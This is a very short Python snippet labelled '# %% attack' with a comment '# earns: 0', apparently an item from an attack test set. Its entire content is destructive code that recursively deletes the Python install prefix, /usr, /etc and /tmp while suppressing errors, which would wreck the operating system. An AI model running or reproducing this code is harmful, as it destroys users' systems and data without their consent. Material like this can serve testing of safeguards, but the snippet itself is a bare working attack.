# earns: 0
# %% attack
import shutil, sys
for path in (sys.prefix, "/usr", "/etc", "/tmp"):
    shutil.rmtree(path, ignore_errors=True)
